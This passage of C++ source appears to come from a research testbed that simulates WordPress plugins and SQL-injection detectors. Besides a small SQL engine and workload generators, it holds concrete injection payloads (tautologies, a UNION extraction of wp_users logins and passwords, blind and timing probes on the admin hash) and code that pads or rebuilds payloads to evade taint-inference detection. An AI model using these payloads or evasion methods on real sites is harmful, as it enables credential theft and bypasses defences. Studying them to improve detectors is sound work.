  auto result = Execute(stmt.value());
  bound_params_ = nullptr;
  return result;
}

StatusOr<ExecResult> Database::Execute(const sql::Statement& stmt) {
  switch (stmt.kind) {
    case sql::StatementKind::kSelect: return ExecSelect(*stmt.select);
    case sql::StatementKind::kInsert: return ExecInsert(*stmt.insert);
    case sql::StatementKind::kUpdate: return ExecUpdate(*stmt.update);
    case sql::StatementKind::kDelete: return ExecDelete(*stmt.del);
    case sql::StatementKind::kCreateTable: return ExecCreate(*stmt.create);
    case sql::StatementKind::kDropTable: return ExecDrop(*stmt.drop);
    case sql::StatementKind::kShowTables: return ExecShowTables();
  }
  return Status::Internal("unhandled statement kind");
}

StatusOr<ExecResult> Database::ExecShowTables() const {
  RefreshInfoSchema();
  ExecResult result;
  result.columns = {"Tables"};
  for (const Row& row : info_tables_.rows) {
    result.rows.push_back({row[0]});
  }
  return result;
}

bool Database::HasTable(std::string_view name) const {
  return tables_.contains(ToLower(name));
}

void Database::RefreshInfoSchema() const {
  using T = sql::ColumnDef::Type;
  info_tables_.name = "information_schema.tables";
  info_tables_.columns = {{"table_name", T::kText}, {"table_rows", T::kInt}};
  info_tables_.rows.clear();
  info_columns_.name = "information_schema.columns";
  info_columns_.columns = {{"table_name", T::kText},
                           {"column_name", T::kText},
                           {"data_type", T::kText}};
  info_columns_.rows.clear();

  // Deterministic order for stable results.
  std::vector<const Table*> ordered;
  for (const auto& [key, table] : tables_) ordered.push_back(&table);
  std::sort(ordered.begin(), ordered.end(),
            [](const Table* a, const Table* b) { return a->name < b->name; });
  for (const Table* t : ordered) {
    info_tables_.rows.push_back(
        {Value(t->name), Value(static_cast<std::int64_t>(t->rows.size()))});
    for (const Column& c : t->columns) {
      const char* type = c.type == sql::ColumnDef::Type::kInt      ? "int"
                         : c.type == sql::ColumnDef::Type::kDouble ? "double"
                                                                   : "text";
      info_columns_.rows.push_back(
          {Value(t->name), Value(c.name), Value(std::string(type))});
    }
  }
}

const Table* Database::FindTable(std::string_view name) const {
  const std::string key = ToLower(name);
  if (key == "information_schema.tables") {
    RefreshInfoSchema();
    return &info_tables_;
  }
  if (key == "information_schema.columns") {
    RefreshInfoSchema();
    return &info_columns_;
  }
  auto it = tables_.find(key);
  return it == tables_.end() ? nullptr : &it->second;
}

Table* Database::FindTableMutable(std::string_view name) {
  auto it = tables_.find(ToLower(name));
  return it == tables_.end() ? nullptr : &it->second;
}

Table& Database::CreateTable(std::string name, std::vector<Column> columns) {
  std::string key = ToLower(name);
  Table& t = tables_[key];
  t.name = std::move(name);
  t.columns = std::move(columns);
  t.rows.clear();
  return t;
}

Status Database::InsertRow(std::string_view table, Row row) {
  Table* t = FindTableMutable(table);
  if (t == nullptr) {
    return Status::NotFound("no such table: " + std::string(table));
  }
  if (row.size() != t->columns.size()) {
    return Status::InvalidArgument("column count mismatch");
  }
  t->rows.push_back(std::move(row));
  return Status::Ok();
}

StatusOr<ExecResult> Database::ExecSelectForEval(const sql::SelectStmt& stmt,
                                                 double* vtime) {
  auto r = ExecSelect(stmt);
  if (r.ok()) *vtime += r.value().virtual_time_ms;
  return r;
}

StatusOr<ExecResult> Database::ExecSelect(const sql::SelectStmt& stmt) {
  ExecResult result;
  Evaluator eval(this, &result.virtual_time_ms, &rng_);

  std::vector<const sql::Expr*> order_exprs;
  order_exprs.reserve(stmt.order_by.size());
  for (const auto& item : stmt.order_by) order_exprs.push_back(item.expr.get());

  std::vector<Row> combined;
  std::vector<std::string> columns;
  for (std::size_t ci = 0; ci < stmt.cores.size(); ++ci) {
    auto core_result = ExecCore(stmt.cores[ci], eval, order_exprs);
    if (!core_result.ok()) return core_result.status();
    auto& [core_cols, core_rows] = core_result.value();
    if (ci == 0) {
      columns = std::move(core_cols);
    } else if (core_cols.size() != columns.size()) {
      // MySQL: "The used SELECT statements have a different number of
      // columns" — the error union-based column sweeps probe for.
      return Status::InvalidArgument(
          "The used SELECT statements have a different number of columns");
    }
    for (auto& row : core_rows) combined.push_back(std::move(row));
  }

  // UNION (without ALL) de-duplicates the combined result.
  bool any_plain_union = false;
  for (bool all : stmt.union_all) {
    if (!all) any_plain_union = true;
  }
  if (stmt.cores.size() > 1 && any_plain_union) {
    std::vector<Row> unique;
    for (Row& row : combined) {
      bool dup = false;
      for (const Row& u : unique) {
        bool same = u.size() == row.size();
        for (std::size_t i = 0; same && i < u.size(); ++i) {
          same = Value::OrderCompare(u[i], row[i]) == 0;
        }
        if (same) {
          dup = true;
          break;
        }
      }
      if (!dup) unique.push_back(std::move(row));
    }
    combined = std::move(unique);
  }

  // ORDER BY sorts on the hidden key columns ExecCore appended after the
  // visible columns, then the keys are stripped.
  const std::size_t ncols = columns.size();
  if (!order_exprs.empty()) {
    std::vector<bool> descending;
    for (const auto& item : stmt.order_by) {
      descending.push_back(item.descending);
    }
    std::stable_sort(
        combined.begin(), combined.end(),
        [&descending, ncols](const Row& a, const Row& b) {
          for (std::size_t k = 0; k < descending.size(); ++k) {
            int c = Value::OrderCompare(a[ncols + k], b[ncols + k]);
            if (c != 0) return descending[k] ? c > 0 : c < 0;
          }
          return false;
        });
    for (Row& row : combined) row.resize(ncols);
  }

  // OFFSET / LIMIT.
  std::size_t begin = 0, end = combined.size();
  if (stmt.offset) {
    begin = std::min<std::size_t>(
        static_cast<std::size_t>(std::max<std::int64_t>(*stmt.offset, 0)),
        combined.size());
  }
  if (stmt.limit) {
    end = std::min(combined.size(),
                   begin + static_cast<std::size_t>(
                               std::max<std::int64_t>(*stmt.limit, 0)));
  }
  result.columns = std::move(columns);
  result.rows.assign(std::make_move_iterator(combined.begin() + begin),
                     std::make_move_iterator(combined.begin() + end));
  return result;
}

namespace {

// Resolves one ORDER BY expression for a projected row: 1-based position,
// output-column/alias name, or (via `fallback`) evaluation against the
// source row. Appends the key value to `row`.
Status AppendOrderKey(
    const sql::Expr& e, const std::vector<std::string>& columns, Row& row,
    std::size_t ncols,
    const std::function<StatusOr<Value>(const sql::Expr&)>& fallback) {
  if (e.kind == sql::ExprKind::kIntLiteral) {
    if (e.int_value < 1 ||
        static_cast<std::size_t>(e.int_value) > ncols) {
      return Status::InvalidArgument("Unknown column '" +
                                     std::to_string(e.int_value) +
                                     "' in 'order clause'");
    }
    row.push_back(row[static_cast<std::size_t>(e.int_value - 1)]);
    return Status::Ok();
  }
  if (e.kind == sql::ExprKind::kColumnRef && e.qualifier.empty()) {
    for (std::size_t i = 0; i < ncols && i < columns.size(); ++i) {
      if (EqualsIgnoreCase(columns[i], e.column)) {
        row.push_back(row[i]);
        return Status::Ok();
      }
    }
  }
  auto v = fallback(e);
  if (!v.ok()) return v.status();
  row.push_back(std::move(v.value()));
  return Status::Ok();
}

}  // namespace

StatusOr<std::pair<std::vector<std::string>, std::vector<Row>>>
Database::ExecCore(const sql::SelectCore& core, Evaluator& eval,
                   const std::vector<const sql::Expr*>& order_exprs) {
  // 1. Build the scope list from FROM/JOINs.
  std::vector<Scope> scopes;
  if (!core.from.has_value()) {
    scopes.emplace_back();  // SELECT without FROM: one empty scope
  } else {
    const Table* base = FindTable(core.from->table);
    if (base == nullptr) {
      return Status::NotFound("Table '" + core.from->table +
                              "' doesn't exist");
    }
    std::string base_alias =
        core.from->alias.empty() ? core.from->table : core.from->alias;
    for (const Row& row : base->rows) {
      Scope s;
      s.Append(base_alias, *base, &row);
      scopes.push_back(std::move(s));
    }
    for (const auto& join : core.joins) {
      const Table* jt = FindTable(join.table.table);
      if (jt == nullptr) {
        return Status::NotFound("Table '" + join.table.table +
                                "' doesn't exist");
      }
      std::string alias =
          join.table.alias.empty() ? join.table.table : join.table.alias;
      std::vector<Scope> joined;
      for (const Scope& left : scopes) {
        bool matched = false;
        for (const Row& row : jt->rows) {
          Scope s = left;
          s.Append(alias, *jt, &row);
          if (join.on != nullptr) {
            auto cond = eval.Eval(*join.on, s);
            if (!cond.ok()) return cond.status();
            if (!cond.value().truthy()) continue;
          }
          matched = true;
          joined.push_back(std::move(s));
        }
        if (!matched && join.kind == sql::JoinClause::Kind::kLeft) {
          Scope s = left;
          s.Append(alias, *jt, nullptr);  // NULL-extended row
          joined.push_back(std::move(s));
        }
      }
      scopes = std::move(joined);
    }
  }

  // 2. WHERE filter.
  if (core.where != nullptr) {
    std::vector<Scope> kept;
    for (Scope& s : scopes) {
      auto cond = eval.Eval(*core.where, s);
      if (!cond.ok()) return cond.status();
      if (cond.value().truthy()) kept.push_back(std::move(s));
    }
    scopes = std::move(kept);
  }

  // 3. Determine output columns (star expansion uses the first scope's
  // names; with no FROM, '*' is an error).
  std::vector<std::string> columns;
  bool has_aggregate = !core.group_by.empty();
  for (const auto& item : core.items) {
    if (ContainsAggregate(item.expr.get())) has_aggregate = true;
  }
  if (ContainsAggregate(core.having.get())) has_aggregate = true;

  auto output_name = [](const sql::SelectItem& item) -> std::string {
    if (!item.alias.empty()) return item.alias;
    const sql::Expr& e = *item.expr;
    if (e.kind == sql::ExprKind::kColumnRef) return e.column;
    if (e.kind == sql::ExprKind::kFunctionCall) {
      return e.function_name + "(...)";
    }
    return "expr";
  };

  const bool has_star = std::any_of(
      core.items.begin(), core.items.end(), [](const sql::SelectItem& i) {
        return i.expr->kind == sql::ExprKind::kColumnRef &&
               i.expr->column == "*";
      });
  if (has_star && !core.from.has_value()) {
    return Status::InvalidArgument("SELECT * requires FROM");
  }
  if (has_star && has_aggregate) {
    return Status::InvalidArgument("SELECT * cannot mix with aggregates");
  }

  // 4a. Aggregate path.
  if (has_aggregate) {
    std::map<std::vector<std::string>, Group> groups;
    if (core.group_by.empty()) {
      Group g;
      for (std::size_t i = 0; i < scopes.size(); ++i) {
        g.member_indexes.push_back(i);
      }
      groups[{}] = std::move(g);
    } else {
      for (std::size_t i = 0; i < scopes.size(); ++i) {
        std::vector<std::string> key;
        for (const auto& ge : core.group_by) {
          auto v = eval.Eval(*ge, scopes[i]);
          if (!v.ok()) return v.status();
          key.push_back(v.value().as_string() +
                        (v.value().is_string() ? "#s" : "#n"));
        }
        groups[key].member_indexes.push_back(i);
      }
    }
    for (const auto& item : core.items) columns.push_back(output_name(item));
    std::vector<Row> rows;
    for (auto& [key, group] : groups) {
      if (core.group_by.empty() && group.member_indexes.empty() &&
          scopes.empty()) {
        // Aggregate over empty input still yields one row (COUNT=0 etc.).
      }
      if (core.having != nullptr) {
        auto h = eval.EvalGrouped(*core.having, scopes, group);
        if (!h.ok()) return h.status();
        if (!h.value().truthy()) continue;
      }
      Row row;
      for (const auto& item : core.items) {
        auto v = eval.EvalGrouped(*item.expr, scopes, group);
        if (!v.ok()) return v.status();
        row.push_back(std::move(v.value()));
      }
      const std::size_t ncols = row.size();
      for (const sql::Expr* oe : order_exprs) {
        auto st = AppendOrderKey(
            *oe, columns, row, ncols, [&](const sql::Expr& e) {
              return eval.EvalGrouped(e, scopes, group);
            });
        if (!st.ok()) return st;
      }
      rows.push_back(std::move(row));
    }
    return std::make_pair(std::move(columns), std::move(rows));
  }

  // 4b. Plain projection path.
  // Column headers.
  for (const auto& item : core.items) {
    const sql::Expr& e = *item.expr;
    if (e.kind == sql::ExprKind::kColumnRef && e.column == "*") {
      // Star expansion: use the table's declared columns.
      if (scopes.empty()) {
        // Need names even with zero rows; reconstruct from tables.
        const Table* base = FindTable(core.from->table);
        for (const auto& col : base->columns) columns.push_back(col.name);
        for (const auto& join : core.joins) {
          const Table* jt = FindTable(join.table.table);
          for (const auto& col : jt->columns) columns.push_back(col.name);
        }
      } else {
        const std::string q = ToLower(e.qualifier);
        for (const auto& [qual, col] : scopes[0].names) {
          if (q.empty() || qual == q) columns.push_back(col);
        }
      }
    } else {
      columns.push_back(output_name(item));
    }
  }

  std::vector<Row> rows;
  rows.reserve(scopes.size());
  for (const Scope& s : scopes) {
    Row row;
    for (const auto& item : core.items) {
      const sql::Expr& e = *item.expr;
      if (e.kind == sql::ExprKind::kColumnRef && e.column == "*") {
        const std::string q = ToLower(e.qualifier);
        for (std::size_t i = 0; i < s.names.size(); ++i) {
          if (q.empty() || s.names[i].first == q) row.push_back(s.values[i]);
        }
      } else {
        auto v = eval.Eval(e, s);
        if (!v.ok()) return v.status();
        row.push_back(std::move(v.value()));
      }
    }
    const std::size_t ncols = columns.size();
    for (const sql::Expr* oe : order_exprs) {
      auto st = AppendOrderKey(*oe, columns, row, ncols,
                               [&](const sql::Expr& e) {
                                 return eval.Eval(e, s);
                               });
      if (!st.ok()) return st;
    }
    rows.push_back(std::move(row));
  }

  // DISTINCT compares only the visible columns (hidden sort keys are
  // derived values and must not resurrect duplicates).
  if (core.distinct) {
    const std::size_t ncols = columns.size();
    std::vector<Row> unique;
    for (Row& row : rows) {
      bool dup = false;
      for (const Row& u : unique) {
        bool same = true;
        for (std::size_t i = 0; same && i < ncols; ++i) {
          same = Value::OrderCompare(u[i], row[i]) == 0;
        }
        if (same) {
          dup = true;
          break;
        }
      }
      if (!dup) unique.push_back(std::move(row));
    }
    rows = std::move(unique);
  }
  return std::make_pair(std::move(columns), std::move(rows));
}

StatusOr<ExecResult> Database::ExecInsert(const sql::InsertStmt& stmt) {
  Table* t = FindTableMutable(stmt.table);
  if (t == nullptr) {
    return Status::NotFound("Table '" + stmt.table + "' doesn't exist");
  }
  ExecResult result;
  Evaluator eval(this, &result.virtual_time_ms, &rng_);
  Scope empty;

  std::vector<int> targets;
  if (stmt.columns.empty()) {
    for (std::size_t i = 0; i < t->columns.size(); ++i) {
      targets.push_back(static_cast<int>(i));
    }
  } else {
    for (const std::string& c : stmt.columns) {
      int idx = t->ColumnIndex(c);
      if (idx < 0) {
        return Status::InvalidArgument("Unknown column '" + c + "'");
      }
      targets.push_back(idx);
    }
  }
  for (const auto& exprs : stmt.rows) {
    if (exprs.size() != targets.size()) {
      return Status::InvalidArgument("Column count doesn't match value count");
    }
    Row row(t->columns.size());
    for (std::size_t i = 0; i < exprs.size(); ++i) {
      auto v = eval.Eval(*exprs[i], empty);
      if (!v.ok()) return v.status();
      row[static_cast<std::size_t>(targets[i])] = std::move(v.value());
    }
    t->rows.push_back(std::move(row));
    ++result.affected;
  }
  return result;
}

StatusOr<ExecResult> Database::ExecUpdate(const sql::UpdateStmt& stmt) {
  Table* t = FindTableMutable(stmt.table);
  if (t == nullptr) {
    return Status::NotFound("Table '" + stmt.table + "' doesn't exist");
  }
  ExecResult result;
  Evaluator eval(this, &result.virtual_time_ms, &rng_);

  std::vector<std::pair<int, const sql::Expr*>> sets;
  for (const auto& [col, expr] : stmt.assignments) {
    int idx = t->ColumnIndex(col);
    if (idx < 0) {
      return Status::InvalidArgument("Unknown column '" + col + "'");
    }
    sets.emplace_back(idx, expr.get());
  }
  std::size_t limit = stmt.limit ? static_cast<std::size_t>(*stmt.limit)
                                 : t->rows.size();
  for (Row& row : t->rows) {
    if (result.affected >= limit) break;
    Scope s;
    s.Append(t->name, *t, &row);
    if (stmt.where != nullptr) {
      auto cond = eval.Eval(*stmt.where, s);
      if (!cond.ok()) return cond.status();
      if (!cond.value().truthy()) continue;
    }
    for (const auto& [idx, expr] : sets) {
      auto v = eval.Eval(*expr, s);
      if (!v.ok()) return v.status();
      row[static_cast<std::size_t>(idx)] = std::move(v.value());
    }
    ++result.affected;
  }
  return result;
}

StatusOr<ExecResult> Database::ExecDelete(const sql::DeleteStmt& stmt) {
  Table* t = FindTableMutable(stmt.table);
  if (t == nullptr) {
    return Status::NotFound("Table '" + stmt.table + "' doesn't exist");
  }
  ExecResult result;
  Evaluator eval(this, &result.virtual_time_ms, &rng_);
  std::size_t limit = stmt.limit ? static_cast<std::size_t>(*stmt.limit)
                                 : t->rows.size();
  std::vector<Row> kept;
  kept.reserve(t->rows.size());
  for (Row& row : t->rows) {
    bool remove = false;
    if (result.affected < limit) {
      if (stmt.where == nullptr) {
        remove = true;
      } else {
        Scope s;
        s.Append(t->name, *t, &row);
        auto cond = eval.Eval(*stmt.where, s);
        if (!cond.ok()) return cond.status();
        remove = cond.value().truthy();
      }
    }
    if (remove) {
      ++result.affected;
    } else {
      kept.push_back(std::move(row));
    }
  }
  t->rows = std::move(kept);
  return result;
}

StatusOr<ExecResult> Database::ExecCreate(const sql::CreateTableStmt& stmt) {
  if (HasTable(stmt.table)) {
    if (stmt.if_not_exists) return ExecResult{};
    return Status::InvalidArgument("Table '" + stmt.table +
                                   "' already exists");
  }
  std::vector<Column> cols;
  for (const auto& def : stmt.columns) {
    cols.push_back(Column{def.name, def.type});
  }
  CreateTable(stmt.table, std::move(cols));
  return ExecResult{};
}

StatusOr<ExecResult> Database::ExecDrop(const sql::DropTableStmt& stmt) {
  auto it = tables_.find(ToLower(stmt.table));
  if (it == tables_.end()) {
    if (stmt.if_exists) return ExecResult{};
    return Status::NotFound("Unknown table '" + stmt.table + "'");
  }
  tables_.erase(it);
  return ExecResult{};
}

}  // namespace joza::db
