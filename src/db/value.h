// SQL value type with MySQL-style coercions.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <variant>

namespace joza::db {

class Value {
 public:
  Value() = default;  // NULL
  explicit Value(std::int64_t v) : data_(v) {}
  explicit Value(double v) : data_(v) {}
  explicit Value(std::string v) : data_(std::move(v)) {}
  static Value Null() { return Value(); }
  static Value Bool(bool b) { return Value(std::int64_t{b ? 1 : 0}); }

  bool is_null() const { return std::holds_alternative<std::monostate>(data_); }
  bool is_int() const { return std::holds_alternative<std::int64_t>(data_); }
  bool is_double() const { return std::holds_alternative<double>(data_); }
  bool is_string() const { return std::holds_alternative<std::string>(data_); }
  bool is_numeric() const { return is_int() || is_double(); }

  std::int64_t as_int() const;       // MySQL-style coercion (string -> num)
  double as_double() const;
  std::string as_string() const;     // rendering, NULL -> "NULL"
  const std::string& raw_string() const { return std::get<std::string>(data_); }

  // SQL truthiness: non-zero numeric value; NULL is false.
  bool truthy() const;

  // Three-valued comparison: returns NULL value if either side is NULL,
  // else Bool. Strings compare numerically when the other side is numeric.
  static Value CompareEq(const Value& a, const Value& b);
  static Value CompareLt(const Value& a, const Value& b);
  static Value CompareLe(const Value& a, const Value& b);

  // Total ordering for ORDER BY / DISTINCT / GROUP BY keys: NULL sorts
  // first, then numerics, then strings.
  static int OrderCompare(const Value& a, const Value& b);

  friend bool operator==(const Value& a, const Value& b) {
    return OrderCompare(a, b) == 0;
  }

 private:
  std::variant<std::monostate, std::int64_t, double, std::string> data_;
};

// Parses the numeric prefix of a string the way MySQL does ('12abc' -> 12,
// 'abc' -> 0, '3.5x' -> 3.5).
double MysqlNumericPrefix(std::string_view s);

}  // namespace joza::db
