#include "attack/workload.h"

namespace joza::attack {

namespace {

const char* kCommentSnippets[] = {
    "Great post, thanks for sharing!",
    "I don't think that's right, see my blog",
    "couldn't agree more -- well said",
    "what about performance? 100% faster?",
    "quote: 'simplicity is prerequisite for reliability'",
    "check out http://example.com/page?id=5&ref=2",
    "my score: 10/10, would read again",
    "l'avis est tres interessant",
    "it's a \"must read\" (imho)",
    "SELECT your battles wisely, as they say",
};

const char* kSearchTerms[] = {
    "post",     "hello",   "body",        "tutorial",  "review",
    "it's",     "c++",     "100%",        "why so",    "o'brien",
    "select",   "union",   "performance", "zzz",       "guide",
};

}  // namespace

std::vector<WorkloadRequest> MakeCrawlWorkload(std::size_t count,
                                               std::uint64_t seed) {
  Rng rng(seed ^ 0xc4a31);
  std::vector<WorkloadRequest> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    WorkloadRequest wr;
    switch (rng.NextBelow(3)) {
      case 0:
        wr.request = http::Request::Get("/", {});
        break;
      case 1:
        wr.request = http::Request::Get(
            "/post", {{"id", std::to_string(rng.NextInRange(1, 50))}});
        break;
      default:
        wr.request = http::Request::Get(
            "/plugins/a-to-z-category-listing",
            {{"uid", std::to_string(rng.NextInRange(1, 2))}});
        break;
    }
    wr.request.WithCookie("wp_session", rng.NextToken(16));
    out.push_back(std::move(wr));
  }
  return out;
}

std::vector<WorkloadRequest> MakeCommentWorkload(std::size_t count,
                                                 std::uint64_t seed) {
  Rng rng(seed ^ 0xc0317);
  std::vector<WorkloadRequest> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    // Every comment body is textually unique (like real comments): the
    // query cache can never absorb a write, only the structure cache can.
    std::string body = kCommentSnippets[rng.NextBelow(std::size(kCommentSnippets))];
    body += " " + rng.NextToken(12);
    WorkloadRequest wr;
    wr.request = http::Request::Post("/comment", {{"body", std::move(body)}});
    wr.request.WithCookie("wp_session", rng.NextToken(16));
    wr.is_write = true;
    out.push_back(std::move(wr));
  }
  return out;
}

std::vector<WorkloadRequest> MakeSearchWorkload(std::size_t count,
                                                std::uint64_t seed) {
  Rng rng(seed ^ 0x5ea4c4);
  std::vector<WorkloadRequest> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    std::string term = kSearchTerms[rng.NextBelow(std::size(kSearchTerms))];
    if (rng.NextBool(0.4)) term += " " + rng.NextToken(5);
    WorkloadRequest wr;
    wr.request = http::Request::Get("/search", {{"s", std::move(term)}});
    wr.request.WithCookie("wp_session", rng.NextToken(16));
    out.push_back(std::move(wr));
  }
  return out;
}

std::vector<WorkloadRequest> MakeMixedWorkload(std::size_t count,
                                               double write_fraction,
                                               std::uint64_t seed) {
  Rng rng(seed ^ 0x31f3d);
  auto reads = MakeCrawlWorkload(count, seed * 3 + 1);
  auto writes = MakeCommentWorkload(count, seed * 5 + 2);
  std::vector<WorkloadRequest> out;
  out.reserve(count);
  std::size_t ri = 0, wi = 0;
  for (std::size_t i = 0; i < count; ++i) {
    if (rng.NextBool(write_fraction) && wi < writes.size()) {
      out.push_back(std::move(writes[wi++]));
    } else if (ri < reads.size()) {
      out.push_back(std::move(reads[ri++]));
    }
  }
  return out;
}

const std::vector<WpComYearStats>& WordpressComStats() {
  // Synthesized from WordPress.com's public activity reports (order of
  // magnitude: ~500M posts/yr, ~50M pages, ~600M comments, ~60M app/API
  // writes vs ~150B yearly page views by 2014).
  static const std::vector<WpComYearStats> stats = {
      {2010, 145.0, 15.2, 302.0, 18.5, 30000.0},
      {2011, 218.0, 22.9, 391.0, 27.1, 54000.0},
      {2012, 319.0, 33.7, 468.0, 38.0, 96500.0},
      {2013, 438.0, 46.1, 545.0, 50.2, 144000.0},
      {2014, 555.0, 58.4, 607.0, 61.7, 197000.0},
  };
  return stats;
}

double WpComWriteFraction() {
  double writes = 0, reads = 0;
  for (const auto& y : WordpressComStats()) {
    writes += y.new_posts_millions + y.new_pages_millions +
              y.new_comments_millions + y.rpc_posts_millions;
    reads += y.page_views_millions;
  }
  return writes / (writes + reads);
}

}  // namespace joza::attack
