#include "attack/evasion.h"

#include <algorithm>
#include <cmath>

#include "attack/vocab_kits.h"
#include "sqlparse/lexer.h"
#include "util/codec.h"
#include "util/strings.h"

namespace joza::attack {

namespace {

using webapp::Transform;

bool ChainContains(const webapp::TransformChain& chain, Transform t) {
  return std::find(chain.begin(), chain.end(), t) != chain.end();
}

// Probes how the plugin transforms a *logical* payload (post transport
// decoding), the way an adaptive attacker would.
std::string LogicalApply(const PluginSpec& plugin,
                         const std::string& payload) {
  if (ChainContains(plugin.transforms, Transform::kBase64Decode)) {
    return webapp::ApplyChain(plugin.transforms, Base64Encode(payload));
  }
  return webapp::ApplyChain(plugin.transforms, payload);
}

// Number of quotes needed in the comment block: ratio = k / (base + 2k)
// must exceed the threshold, i.e. k > t*base / (1 - 2t); doubled margin.
std::size_t QuotesNeeded(double threshold, std::size_t base_length) {
  if (threshold >= 0.5) return 2 * base_length + 16;  // degenerate config
  double k = threshold * static_cast<double>(base_length) /
             (1.0 - 2.0 * threshold);
  return static_cast<std::size_t>(std::ceil(k)) * 2 + 8;
}

// Trailing spaces needed: ratio = n / len must exceed the threshold.
std::size_t SpacesNeeded(double threshold, std::size_t payload_length) {
  double n = threshold * static_cast<double>(payload_length);
  return static_cast<std::size_t>(std::ceil(n)) * 2 + 8;
}

std::string WithQuoteComment(const std::string& payload, std::size_t quotes) {
  std::string out = payload + "/*";
  out.append(quotes, '\'');
  out += "*/";
  return out;
}

}  // namespace

NtiMutation MutateForNtiEvasion(const PluginSpec& plugin,
                                const Exploit& original,
                                const nti::NtiConfig& nti_config) {
  NtiMutation m;

  // Transport encodings hide the payload from NTI outright: the stored
  // input is the encoded form, the query sees the decoded form.
  if (ChainContains(plugin.transforms, Transform::kBase64Decode)) {
    m.possible = true;
    m.exploit = original;
    m.technique = "transport-encoding";
    return m;
  }

  // Magic quotes active at query-construction time? (A stripslashes later
  // in the chain undoes it.)
  const bool quote_escape = LogicalApply(plugin, "x'y") == "x\\'y";
  if (quote_escape) {
    m.possible = true;
    m.technique = "quote-comment";
    const std::size_t base = original.payload.size() + 4;
    const std::size_t k = QuotesNeeded(nti_config.threshold, base);
    m.exploit = original;
    m.exploit.payload = WithQuoteComment(original.payload, k);
    if (original.is_probe_pair) {
      m.exploit.false_payload = WithQuoteComment(original.false_payload, k);
    }
    return m;
  }

  // Whitespace trimming?
  const bool trims = LogicalApply(plugin, "xy   ") == "xy";
  if (trims) {
    m.possible = true;
    m.technique = "whitespace-padding";
    const std::size_t n =
        SpacesNeeded(nti_config.threshold, original.payload.size());
    m.exploit = original;
    m.exploit.payload = original.payload + std::string(n, ' ');
    if (original.is_probe_pair) {
      m.exploit.false_payload = original.false_payload + std::string(n, ' ');
    }
    return m;
  }

  // No transformation to hide behind: any padding survives into the query
  // verbatim, keeping the edit distance at zero.
  return m;
}

std::string RecaseSqlTokens(const std::string& payload) {
  std::string out = payload;
  for (const sql::Token& t : sql::Lex(payload)) {
    if (t.kind == sql::TokenKind::kKeyword ||
        t.kind == sql::TokenKind::kFunction) {
      for (std::size_t i = t.span.begin; i < t.span.end; ++i) {
        out[i] = AsciiToUpper(out[i]);
      }
    }
  }
  return out;
}

namespace {

struct Candidate {
  Exploit exploit;
  std::string strategy;
};

std::vector<Candidate> TaintlessCandidates(const PluginSpec& plugin,
                                           const Exploit& original) {
  std::vector<Candidate> out;

  // 1. Case-match the original's SQL tokens against the (conventionally
  //    uppercase) application vocabulary.
  {
    Exploit e = original;
    e.payload = RecaseSqlTokens(original.payload);
    if (original.is_probe_pair) {
      e.false_payload = RecaseSqlTokens(original.false_payload);
    }
    out.push_back({std::move(e), "case-match"});
  }

  // 2. Type-specific reconstruction from vocabulary snippets.
  switch (plugin.type) {
    case AttackType::kTautology: {
      Exploit e;
      e.payload = plugin.quoted ? "x' OR 1=1 -- a" : "0 OR 1=1";
      out.push_back({std::move(e), "vocabulary-tautology"});
      Exploit e2;
      e2.payload = plugin.quoted ? "x' OR 2>1 -- a" : "0 OR 2>1";
      out.push_back({std::move(e2), "vocabulary-tautology-gt"});
      break;
    }
    case AttackType::kUnionBased: {
      Exploit e;
      std::string head = plugin.quoted ? "zzz' " : "0 ";
      std::string tail = plugin.quoted ? " -- a" : "";
      e.payload = head + std::string(kKitUnion2) + tail;
      out.push_back({std::move(e), "vocabulary-union-kit"});
      break;
    }
    case AttackType::kStandardBlind: {
      Exploit e;
      std::string head = plugin.quoted ? "zzz' " : "0 ";
      std::string tail = plugin.quoted ? " -- a" : "";
      e.payload = head + std::string(kKitBlindHead) + "114" +
                  std::string(kKitBlindTail) + tail;
      e.false_payload = head + std::string(kKitBlindHead) + "126" +
                        std::string(kKitBlindTail) + tail;
      e.is_probe_pair = true;
      out.push_back({std::move(e), "vocabulary-blind-kit"});
      break;
    }
    case AttackType::kDoubleBlind: {
      Exploit e;
      std::string head = plugin.quoted ? "zzz' " : "0 ";
      std::string tail = plugin.quoted ? " -- a" : "";
      e.payload = head + std::string(kKitTimeHead) + "114" +
                  std::string(kKitTimeTail) + tail;
      e.false_payload = head + std::string(kKitTimeHead) + "126" +
                        std::string(kKitTimeTail) + tail;
      e.is_probe_pair = true;
      out.push_back({std::move(e), "vocabulary-time-kit"});
      break;
    }
  }
  return out;
}

bool PtiSafe(const PluginSpec& plugin, const pti::PtiAnalyzer& pti,
             const Exploit& e) {
  if (pti.Analyze(QueryFor(plugin, e.payload)).attack_detected) return false;
  if (e.is_probe_pair &&
      pti.Analyze(QueryFor(plugin, e.false_payload)).attack_detected) {
    return false;
  }
  return true;
}

}  // namespace

TaintlessResult RunTaintless(const PluginSpec& plugin,
                             const pti::PtiAnalyzer& pti,
                             webapp::Application& unprotected_app) {
  TaintlessResult result;
  const Exploit original = OriginalExploit(plugin);
  for (Candidate& candidate : TaintlessCandidates(plugin, original)) {
    ++result.candidates_tried;
    if (!PtiSafe(plugin, pti, candidate.exploit)) continue;
    if (!ExploitSucceeds(unprotected_app, plugin, candidate.exploit)) continue;
    result.success = true;
    result.exploit = std::move(candidate.exploit);
    result.strategy = std::move(candidate.strategy);
    return result;
  }
  return result;
}

}  // namespace joza::attack
