// Vocabulary kits: the SQL snippets that "rich" plugins ship in their own
// source code (admin/export/maintenance queries). Taintless (the PTI
// evasion tool) rebuilds attack payloads out of exactly these byte
// sequences, so both the catalog (which plants them as plugin source
// literals) and the evasion engine (which assembles payloads from them)
// must share one definition.
//
// All kits are deliberately quote-free (probing with CHAR(n) instead of
// string literals): the protected plugins run WordPress magic quotes, and
// a payload containing quotes would be mangled before reaching the query.
#pragma once

#include <string_view>

namespace joza::attack {

// 2-column union extraction (rich union-based plugins project 2 columns).
inline constexpr std::string_view kKitUnion2 =
    "UNION SELECT login, pass FROM wp_users WHERE 1";

// Boolean blind probe: <head> <ascii-code> <tail> compares the admin
// password hash against CHAR(n), giving a binary-search oracle.
inline constexpr std::string_view kKitBlindHead =
    "OR (SELECT COUNT(*) FROM wp_users WHERE pass > CHAR(";
inline constexpr std::string_view kKitBlindTail = ")) > 0";

// Timing (double-blind) probe: SLEEP fires iff the comparison holds.
inline constexpr std::string_view kKitTimeHead =
